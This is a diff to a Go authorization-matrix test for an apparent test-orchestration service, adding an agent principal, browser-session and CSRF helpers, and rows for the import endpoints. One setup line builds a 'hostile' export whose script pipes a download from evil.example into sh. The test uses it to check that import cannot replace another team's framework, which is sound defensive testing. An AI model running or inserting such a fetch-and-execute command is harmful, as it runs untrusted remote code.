@@ -5,31 +5,57 @@ import (
 	"context"
 	"encoding/json"
 	"fmt"
+	"html"
 	"io"
+	"io/fs"
 	"net/http"
 	"net/http/cookiejar"
 	"net/url"
+	"os"
+	"path/filepath"
 	"regexp"
+	"slices"
 	"strings"
 	"testing"
 	"time"
 
+	"github.com/stretchr/testify/assert"
 	"github.com/stretchr/testify/require"
 
 	"github.com/pitwall/pitwall/internal/auth"
+	"github.com/pitwall/pitwall/internal/ingest"
 	"github.com/pitwall/pitwall/internal/store"
 	"github.com/pitwall/pitwall/internal/wire"
 )
 
 // The principals of the authorisation matrix, in column order.
-var principals = []string{"anonymous", "viewer", "owner", "member", "team-admin", "other-admin", "site-admin", "revoked", "expired"}
+var principals = []string{"anonymous", "viewer", "owner", "member", "team-admin", "other-admin", "site-admin", "revoked", "expired", "agent"}
 
 // authzWorld is the teams, users and tokens the matrix runs against.
 type authzWorld struct {
 	tokens  map[string]string
 	test    int64 // a finished test of team alpha, owned by "owner"
 	ownerID int64
+	// old is a test of alpha's on the agent that ended an hour ago.
+	old int64
+	// export is the test's export document; hostile is it with another
+	// script, and elsewhere it moved to team beta.
+	export, hostile, elsewhere string
 }
+
+// editExport returns an export document changed by edit.
+func editExport(t *testing.T, doc string, edit func(*wire.Export)) string {
+	t.Helper()
+	var ex wire.Export
+	require.NoError(t, json.Unmarshal([]byte(doc), &ex))
+	edit(&ex)
+	b, err := json.Marshal(&ex)
+	require.NoError(t, err)
+	return string(b)
+}
+
+// longEnded is the test that ended an hour ago, for the ingest rows.
+func (w *authzWorld) longEnded() string { return fmt.Sprint(w.old) }
 
 // ownerToken makes a fresh token of the owner's for each cell that revokes one.
 func (w *authzWorld) ownerToken(t *testing.T) func() string {
@@ -46,7 +72,7 @@ func setupAuthz(t *testing.T) *authzWorld {
 	t.Helper()
 	ctx := context.Background()
 	s := store.New(st.Pool)
-	w := &authzWorld{tokens: map[string]string{"site-admin": st.Token}}
+	w := &authzWorld{tokens: map[string]string{"site-admin": st.Token, "agent": st.AgentTokens[agentName]}}
 	for _, team := range []string{"alpha", "beta"} {
 		require.NoError(t, ignoreExists(s.TeamCreate(ctx, team)))
 	}
@@ -89,6 +115,18 @@ func setupAuthz(t *testing.T) *authzWorld {
 		"name: authz-fw\nteam: alpha\nexecution: {script: \"#!/bin/sh\\necho 'K, 1' > results.csv\\n\"}\n")
 	require.Equal(t, http.StatusCreated, code, body)
 	w.test = w.run(t, "owner")
+	w.old = w.run(t, "owner")
+	_, err = st.Pool.Exec(ctx, `UPDATE tests SET ended_at = now() - interval '1 hour' WHERE id = $1`, w.old)
+	require.NoError(t, err)
+	code, w.export = as(t, w.tokens["owner"], http.MethodGet, fmt.Sprintf("/api/v1/tests/%d/export", w.test), "", "")
+	require.Equal(t, http.StatusOK, code, w.export)
+	w.hostile = editExport(t, w.export, func(ex *wire.Export) {
+		ex.Framework.Execution.Script = "#!/bin/sh\ncurl -s https://evil.example/x | sh\n"
+	})
+	w.elsewhere = editExport(t, w.export, func(ex *wire.Export) {
+		ex.Framework.Team, ex.Test.Team = "beta", "beta"
+		ex.Framework.Name, ex.Test.Framework = "authz-moved", "authz-moved"
+	})
 	return w
 }
 
@@ -110,16 +148,36 @@ func (w *authzWorld) run(t *testing.T, who string) int64 {
 	return created.ID
 }
 
+// credential is how a request proves who sends it: an API token, or a
+// browser's session cookie with (or without) its CSRF token.
+type credential struct {
+	token   string
+	session *http.Cookie
+	csrf    string
+}
+
 // as sends a request with a token ("" for none) and returns status and body.
 func as(t *testing.T, token, method, path, ctype, body string) (int, string) {
+	t.Helper()
+	return send(t, credential{token: token}, method, path, ctype, body)
+}
+
+// send sends a request with a credential and returns status and body.
+func send(t *testing.T, c credential, method, path, ctype, body string) (int, string) {
 	t.Helper()
 	req, err := http.NewRequest(method, st.URL+path, strings.NewReader(body))
 	require.NoError(t, err)
 	if ctype != "" {
 		req.Header.Set("Content-Type", ctype)
 	}
-	if token != "" {
-		req.Header.Set("Authorization", "Bearer "+token)
+	if c.token != "" {
+		req.Header.Set("Authorization", "Bearer "+c.token)
+	}
+	if c.session != nil {
+		req.AddCookie(c.session)
+	}
+	if c.csrf != "" {
+		req.Header.Set("X-CSRF-Token", c.csrf)
 	}
 	client := &http.Client{CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
 	resp, err := client.Do(req)
@@ -152,6 +210,55 @@ func loginForm(t *testing.T, browser *http.Client, name, password string) url.Va
 	return url.Values{"name": {name}, "password": {password}, "next": {"/"}, "csrf_token": {string(m[1])}}
 }
 
+// hiddenInput finds a form's hidden fields.
+var hiddenInput = regexp.MustCompile(`<input type="hidden" name="([^"]+)" value="([^"]*)"`)
+
+// browserSession signs a user in through the login page, as a browser
+// does, and returns the session cookie with its CSRF token.
+func browserSession(t *testing.T, name, password string) credential {
+	t.Helper()
+	jar, _ := cookiejar.New(nil)
+	browser := &http.Client{Jar: jar, CheckRedirect: func(*http.Request, []*http.Request) error { return http.ErrUseLastResponse }}
+	resp, err := browser.Get(st.URL + "/login")
+	require.NoError(t, err)
+	page, _ := io.ReadAll(resp.Body)
+	resp.Body.Close()
+	form := url.Values{"name": {name}, "password": {password}, "next": {"/"}}
+	for _, m := range hiddenInput.FindAllStringSubmatch(string(page), -1) {
+		if m[1] != "next" {
+			form.Set(m[1], html.UnescapeString(m[2]))
+		}
+	}
+	resp, err = browser.PostForm(st.URL+"/login", form)
+	require.NoError(t, err)
+	resp.Body.Close()
+	require.Equal(t, http.StatusSeeOther, resp.StatusCode, "sign in as %s", name)
+	c := credential{}
+	for _, ck := range resp.Cookies() {
+		if ck.Name == "pitwall_session" {
+			c.session = ck
+		}
+	}
+	require.NotNil(t, c.session)
+	code, body := send(t, c, http.MethodGet, "/api/v1/me", "", "")
+	require.Equal(t, http.StatusOK, code, body)
+	var me struct {
+		CSRF string `json:"csrf_token"`
+	}
+	require.NoError(t, json.Unmarshal([]byte(body), &me))
+	c.csrf = me.CSRF
+	return c
+}
+
+// authnPublic lists the routes that take no credential (ui/authn's public).
+func authnPublic(path string) bool {
+	switch path {
+	case "/healthz", "/readyz", "/metrics", "/api/v1/openapi.json", "/login":
+		return true
+	}
+	return false
+}
+
 // TestAuthorizationMatrix walks every endpoint and page against every kind
 // of principal and checks each cell's outcome against one table.
 func TestAuthorizationMatrix(t *testing.T) {
@@ -174,105 +281,128 @@ func TestAuthorizationMatrix(t *testing.T) {
 		// fresh runs the row against a new test of the owner's (for
 		// destructive rows); {id} in path is replaced by it.
 		fresh bool
-		want  [9]int
+		want  [10]int
 		// prep, when set, makes a new target per cell and returns its ID for {id}.
 		prep func() string
 	}
 	const form = "application/x-www-form-urlencoded"
 	fw := "name: authz-fw\nteam: alpha\nexecution: {script: \"#!/bin/sh\\necho 'K, 1' > results.csv\\n\"}\n"
 	rows := []row{
-		{"GET", "/api/v1/frameworks", "", "", false, [9]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/frameworks/authz-fw?team=alpha", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/frameworks/authz-fw/versions?team=alpha", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/frameworks/authz-fw/versions/1?team=alpha", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"POST", "/api/v1/frameworks", "application/yaml", fw, false, [9]int{unauth, denied, ok, denied, ok, denied, ok, unauth, unauth}, nil},
-		{"POST", "/api/v1/frameworks/authz-fw/clone?team=alpha", "application/json", `{"name":"authz-clone-%s"}`, false, [9]int{unauth, denied, created, created, created, hidden, created, unauth, unauth}, nil},
-		{"POST", "/api/v1/tests", "application/json", `{"framework":"authz-fw","team":"alpha"}`, false, [9]int{unauth, denied, created, created, created, hidden, created, unauth, unauth}, nil},
-		{"GET", "/api/v1/tests/{id}", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/tests?framework=authz-fw", "", "", false, [9]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/tests/{id}/kpis", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/tests/{id}/tables", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/tests/{id}/artifacts", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/tests/{id}/artifacts/results.csv", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/tests/{id}/series", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/tests/{id}/logs", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/tests/{id}/export", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/compare?ids={id},{id}", "", "", false, [9]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"POST", "/api/v1/tests/{id}/clone", "application/json", "{}", false, [9]int{unauth, denied, created, created, created, hidden, created, unauth, unauth}, nil},
-		{"POST", "/api/v1/tests/{id}/rerun", "", "", false, [9]int{unauth, denied, created, denied, created, hidden, created, unauth, unauth}, nil},
-		{"POST", "/api/v1/tests/{id}/abort", "", "", false, [9]int{unauth, denied, conflict, denied, conflict, hidden, conflict, unauth, unauth}, nil},
-		{"DELETE", "/api/v1/tests/{id}", "", "", true, [9]int{unauth, denied, none, denied, none, hidden, none, unauth, unauth}, nil},
-		{"GET", "/api/v1/agents", "", "", false, [9]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"PUT", "/api/v1/agents/" + agentName, "application/json", `{}`, false, [9]int{unauth, denied, denied, denied, denied, denied, none, unauth, unauth}, nil},
-		{"POST", "/api/v1/ingest/logs", "application/json", `{"test_id":{id},"host":"` + agentName + `","batch":"authz-%s","lines":[]}`, false, [9]int{unauth, denied, denied, denied, denied, denied, denied, unauth, unauth}, nil},
-		{"POST", "/api/v1/ingest/samples", "application/json", `{"test_id":{id},"host":"` + agentName + `","batch":"authz-%s","series":[]}`, false, [9]int{unauth, denied, denied, denied, denied, denied, denied, unauth, unauth}, nil},
-		{"GET", "/api/v1/me", "", "", false, [9]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"POST", "/api/v1/tokens", "application/json", `{"name":"ci","team":"alpha","role":"viewer"}`, false, [9]int{unauth, created, created, created, created, denied, denied, unauth, unauth}, nil},
-		{"GET", "/api/v1/tokens?team=alpha", "", "", false, [9]int{unauth, denied, denied, denied, ok, denied, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/tokens", "", "", false, [9]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/audit?team=alpha", "", "", false, [9]int{unauth, denied, denied, denied, ok, denied, ok, unauth, unauth}, nil},
-		{"GET", "/api/v1/audit", "", "", false, [9]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth}, nil},
-		{"POST", "/api/v1/teams", "application/json", `{"name":"authz-team-%s"}`, false, [9]int{unauth, denied, denied, denied, denied, denied, created, unauth, unauth}, nil},
-		{"PUT", "/api/v1/teams/alpha/members/authz-viewer", "application/json", `{"role":"viewer"}`, false, [9]int{unauth, denied, denied, denied, none, denied, none, unauth, unauth}, nil},
-		{"POST", "/api/v1/users", "application/json", `{"name":"authz-new-%s","password":"a long enough password"}`, false, [9]int{unauth, denied, denied, denied, denied, denied, created, unauth, unauth}, nil},
-		{"POST", "/api/v1/agent-tokens", "application/json", `{"agent":"authz-agent"}`, false, [9]int{unauth, denied, denied, denied, denied, denied, created, unauth, unauth}, nil},
+		{"GET", "/api/v1/frameworks", "", "", false, [10]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/frameworks/authz-fw?team=alpha", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/frameworks/authz-fw/versions?team=alpha", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/frameworks/authz-fw/versions/1?team=alpha", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/frameworks", "application/yaml", fw, false, [10]int{unauth, denied, ok, denied, ok, denied, ok, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/frameworks/authz-fw/clone?team=alpha", "application/json", `{"name":"authz-clone-%s"}`, false, [10]int{unauth, denied, created, created, created, hidden, created, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/tests", "application/json", `{"framework":"authz-fw","team":"alpha"}`, false, [10]int{unauth, denied, created, created, created, hidden, created, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/tests/{id}", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/tests?framework=authz-fw", "", "", false, [10]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/tests/{id}/kpis", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/tests/{id}/tables", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/tests/{id}/artifacts", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/tests/{id}/artifacts/results.csv", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/tests/{id}/series", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/tests/{id}/logs", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/tests/{id}/export", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/compare?ids={id},{id}", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/tests/{id}/clone", "application/json", "{}", false, [10]int{unauth, denied, created, created, created, hidden, created, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/tests/{id}/rerun", "", "", false, [10]int{unauth, denied, created, denied, created, hidden, created, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/tests/{id}/abort", "", "", false, [10]int{unauth, denied, conflict, denied, conflict, hidden, conflict, unauth, unauth, denied}, nil},
+		{"DELETE", "/api/v1/tests/{id}", "", "", true, [10]int{unauth, denied, none, denied, none, hidden, none, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/agents", "", "", false, [10]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"PUT", "/api/v1/agents/" + agentName, "application/json", `{}`, false, [10]int{unauth, denied, denied, denied, denied, denied, none, unauth, unauth, none}, nil},
+		{"POST", "/api/v1/ingest/logs?test_id={id}&host=" + agentName, "application/json", `{"test_id":{id},"host":"` + agentName + `","batch":"authz-%s","lines":[]}`, false, [10]int{unauth, denied, denied, denied, denied, denied, denied, unauth, unauth, denied}, w.longEnded},
+		{"POST", "/api/v1/ingest/samples?test_id={id}&host=" + agentName, "application/json", `{"test_id":{id},"host":"` + agentName + `","batch":"authz-%s","series":[]}`, false, [10]int{unauth, denied, denied, denied, denied, denied, denied, unauth, unauth, denied}, w.longEnded},
+		{"GET", "/api/v1/me", "", "", false, [10]int{unauth, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/tokens", "application/json", `{"name":"ci","team":"alpha","role":"viewer"}`, false, [10]int{unauth, created, created, created, created, denied, denied, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/tokens?team=alpha", "", "", false, [10]int{unauth, denied, denied, denied, ok, denied, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/tokens", "", "", false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/audit?team=alpha", "", "", false, [10]int{unauth, denied, denied, denied, ok, denied, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/audit", "", "", false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/teams", "application/json", `{"name":"authz-team-%s"}`, false, [10]int{unauth, denied, denied, denied, denied, denied, created, unauth, unauth, denied}, nil},
+		{"PUT", "/api/v1/teams/alpha/members/authz-viewer", "application/json", `{"role":"viewer"}`, false, [10]int{unauth, denied, denied, denied, none, denied, none, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/users", "application/json", `{"name":"authz-new-%s","password":"a long enough password"}`, false, [10]int{unauth, denied, denied, denied, denied, denied, created, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/agent-tokens", "application/json", `{"agent":"authz-agent"}`, false, [10]int{unauth, denied, denied, denied, denied, denied, created, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/import", "application/json", w.export, false, [10]int{unauth, denied, created, created, created, denied, created, unauth, unauth, denied}, nil},
+		// Another script for a framework someone else owns: imported as a
+		// version of its own, never the current one (checked below).
+		{"POST", "/api/v1/import", "application/json", w.hostile, false, [10]int{unauth, denied, created, created, created, denied, created, unauth, unauth, denied}, nil},
+		// Into a team the sender is not a member of.
+		{"POST", "/api/v1/import", "application/json", w.elsewhere, false, [10]int{unauth, denied, denied, denied, denied, created, created, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/frameworks/authz-fw/changepoints?team=alpha", "", "", false, [10]int{unauth, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/api/v1/agents/" + agentName + "/settings", "", "", false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
+		{"PUT", "/api/v1/agents/authz-host/settings", "application/json", `{"teams":["alpha"]}`, false, [10]int{unauth, denied, denied, denied, denied, denied, ok, unauth, unauth, denied}, nil},
 		// A viewer may import nowhere: refused before the document is read.
-		{"POST", "/api/v1/import", "application/json", `{}`, false, [9]int{unauth, denied, 400, 400, 400, 400, 400, unauth, unauth}, nil},
-		{"GET", "/", "", "", false, [9]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"GET", "/tests/{id}", "", "", false, [9]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/tests/{id}/live", "", "", false, [9]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/tests/{id}/logs/stream", "", "", false, [9]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/tests/{id}/log.txt", "", "", false, [9]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"POST", "/tests/{id}/abort", "application/x-www-form-urlencoded", "reason=authz", false, [9]int{see, denied, see, denied, see, hidden, see, unauth, unauth}, nil},
-		{"GET", "/frameworks", "", "", false, [9]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"GET", "/frameworks/authz-fw?team=alpha", "", "", false, [9]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/frameworks/authz-fw/versions/1?team=alpha", "", "", false, [9]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/frameworks/new", "", "", false, [9]int{see, denied, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"POST", "/frameworks/new", form, "mode=yaml&action=apply&yaml=" + url.QueryEscape(fw), false, [9]int{see, denied, see, denied, see, denied, see, unauth, unauth}, nil},
-		{"POST", "/frameworks/preview", form, "mode=yaml&yaml=" + url.QueryEscape(fw), false, [9]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"GET", "/frameworks/authz-fw/edit?team=alpha", "", "", false, [9]int{see, denied, ok, denied, ok, hidden, ok, unauth, unauth}, nil},
-		{"POST", "/frameworks/authz-fw/edit?team=alpha", form, "mode=yaml&action=apply&yaml=" + url.QueryEscape(fw), false, [9]int{see, denied, see, denied, see, hidden, see, unauth, unauth}, nil},
-		{"POST", "/frameworks/authz-fw/clone?team=alpha", form, "new_name=fw-authz-page-clone-%s", false, [9]int{see, denied, see, see, see, hidden, see, unauth, unauth}, nil},
-		{"GET", "/tests/new?framework=authz-fw&team=alpha", "", "", false, [9]int{see, denied, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/tests/new?clone={id}", "", "", false, [9]int{see, denied, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"POST", "/tests/new", form, "framework=authz-fw&team=alpha", false, [9]int{see, denied, see, see, see, hidden, see, unauth, unauth}, nil},
-		{"POST", "/tests/{id}/rerun", form, "", false, [9]int{see, denied, see, denied, see, hidden, see, unauth, unauth}, nil},
-		{"GET", "/healthz", "", "", false, [9]int{ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
-		{"GET", "/readyz", "", "", false, [9]int{ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
-		{"GET", "/metrics", "", "", false, [9]int{ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
-		{"GET", "/login", "", "", false, [9]int{ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
+		{"POST", "/api/v1/import", "application/json", `{}`, false, [10]int{unauth, denied, 400, 400, 400, 400, 400, unauth, unauth, denied}, nil},
+		{"GET", "/", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"GET", "/tests/{id}", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/tests/{id}/live", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/tests/{id}/logs/stream", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/tests/{id}/log.txt", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"POST", "/tests/{id}/abort", "application/x-www-form-urlencoded", "reason=authz", false, [10]int{see, denied, see, denied, see, hidden, see, unauth, unauth, denied}, nil},
+		{"GET", "/frameworks", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"GET", "/frameworks/authz-fw?team=alpha", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/frameworks/authz-fw/versions/1?team=alpha", "", "", false, [10]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/frameworks/new", "", "", false, [10]int{see, denied, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"POST", "/frameworks/new", form, "mode=yaml&action=apply&yaml=" + url.QueryEscape(fw), false, [10]int{see, denied, see, denied, see, denied, see, unauth, unauth, denied}, nil},
+		{"POST", "/frameworks/preview", form, "mode=yaml&yaml=" + url.QueryEscape(fw), false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"GET", "/frameworks/authz-fw/edit?team=alpha", "", "", false, [10]int{see, denied, ok, denied, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"POST", "/frameworks/authz-fw/edit?team=alpha", form, "mode=yaml&action=apply&yaml=" + url.QueryEscape(fw), false, [10]int{see, denied, see, denied, see, hidden, see, unauth, unauth, denied}, nil},
+		{"POST", "/frameworks/authz-fw/clone?team=alpha", form, "new_name=fw-authz-page-clone-%s", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, nil},
+		{"GET", "/tests/new?framework=authz-fw&team=alpha", "", "", false, [10]int{see, denied, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"GET", "/tests/new?clone={id}", "", "", false, [10]int{see, denied, ok, ok, ok, hidden, ok, unauth, unauth, denied}, nil},
+		{"POST", "/tests/new", form, "framework=authz-fw&team=alpha", false, [10]int{see, denied, see, see, see, hidden, see, unauth, unauth, denied}, nil},
+		{"POST", "/tests/{id}/rerun", form, "", false, [10]int{see, denied, see, denied, see, hidden, see, unauth, unauth, denied}, nil},
+		{"GET", "/healthz", "", "", false, [10]int{ok, ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
+		{"GET", "/readyz", "", "", false, [10]int{ok, ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
+		{"GET", "/metrics", "", "", false, [10]int{ok, ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
+		{"GET", "/login", "", "", false, [10]int{ok, ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
 		// Without the sign-in form's token no sign-in is even tried.
-		{"POST", "/login", "application/x-www-form-urlencoded", "name=authz-nobody-%s&password=wrong+password+here", false, [9]int{denied, denied, denied, denied, denied, denied, denied, denied, denied}, nil},
-		{"POST", "/logout", "", "", false, [9]int{see, see, see, see, see, see, see, unauth, unauth}, nil},
-		{"GET", "/logout", "", "", false, [9]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"POST", "/api/v1/ingest/artifacts?test_id={id}&host=" + agentName + "&path=x.txt", "application/octet-stream", "data", false, [9]int{unauth, denied, denied, denied, denied, denied, denied, unauth, unauth}, nil},
-		{"DELETE", "/api/v1/teams/alpha/members/authz-dummy", "", "", false, [9]int{unauth, denied, denied, denied, none, denied, none, unauth, unauth}, nil},
-		{"DELETE", "/api/v1/tokens/{id}", "", "", false, [9]int{unauth, hidden, none, hidden, none, hidden, none, unauth, unauth}, w.ownerToken(t)},
-		{"GET", "/api/v1/openapi.json", "", "", false, [9]int{ok, ok, ok, ok, ok, ok, ok, ok, ok}, nil},
-		{"GET", "/dashboard/live", "", "", false, [9]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"GET", "/agents", "", "", false, [9]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"GET", "/account", "", "", false, [9]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"POST", "/account/tokens", form, "name=ci&team=alpha&role=viewer&expires_in=24h", false, [9]int{see, created, created, created, created, denied, denied, unauth, unauth}, nil},
-		{"POST", "/account/tokens/{id}/revoke", "", "", false, [9]int{see, hidden, see, hidden, see, hidden, see, unauth, unauth}, w.ownerToken(t)},
-		{"GET", "/account/teams/alpha", "", "", false, [9]int{see, denied, denied, denied, ok, denied, ok, unauth, unauth}, nil},
-		{"POST", "/account/teams/alpha/members", form, "user=authz-viewer&role=viewer", false, [9]int{see, denied, denied, denied, see, denied, see, unauth, unauth}, nil},
-		{"GET", "/account/audit?team=alpha", "", "", false, [9]int{see, denied, denied, denied, ok, denied, ok, unauth, unauth}, nil},
-		{"GET", "/account/audit", "", "", false, [9]int{see, denied, denied, denied, denied, denied, ok, unauth, unauth}, nil},
-		{"GET", "/tests?framework=authz-fw", "", "", false, [9]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"GET", "/tests/delete?ids={id}", "", "", false, [9]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"POST", "/tests/delete", "application/x-www-form-urlencoded", "ids={id}", true, [9]int{see, denied, ok, denied, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/compare", "", "", false, [9]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth}, nil},
-		{"GET", "/compare?ids={id},{id}", "", "", false, [9]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"GET", "/trends?framework=authz-fw&team=alpha", "", "", false, [9]int{see, ok, ok, ok, ok, hidden, ok, unauth, unauth}, nil},
-		{"POST", "/api/v1/changepoints/{id}/accept", "", "", false, [9]int{unauth, denied, denied, denied, ok, hidden, ok, unauth, unauth}, cp},
-		{"POST", "/api/v1/frameworks/authz-fw/changepoints?team=alpha", "", "", false, [9]int{unauth, denied, denied, denied, ok, hidden, ok, unauth, unauth}, nil},
-		{"POST", "/trends/changepoints/{id}/accept", "application/x-www-form-urlencoded", "back=/trends", false, [9]int{see, denied, denied, denied, see, hidden, see, unauth, unauth}, cp},
+		{"POST", "/login", "application/x-www-form-urlencoded", "name=authz-nobody-%s&password=wrong+password+here", false, [10]int{denied, denied, denied, denied, denied, denied, denied, denied, denied, denied}, nil},
+		{"POST", "/logout", "", "", false, [10]int{see, see, see, see, see, see, see, unauth, unauth, denied}, nil},
+		{"GET", "/logout", "", "", false, [10]int{see, ok, ok, ok, ok, ok, ok, unauth, unauth, denied}, nil},
+		{"POST", "/api/v1/ingest/artifacts?test_id={id}&host=" + agentName + "&path=x.txt", "application/octet-stream", "data", false, [10]int{unauth, denied, denied, denied, denied, denied, denied, unauth, unauth, denied}, w.longEnded},
+		{"DELETE", "/api/v1/teams/alpha/members/authz-dummy", "", "", false, [10]int{unauth, denied, denied, denied, none, denied, none, unauth, unauth, denied}, nil},
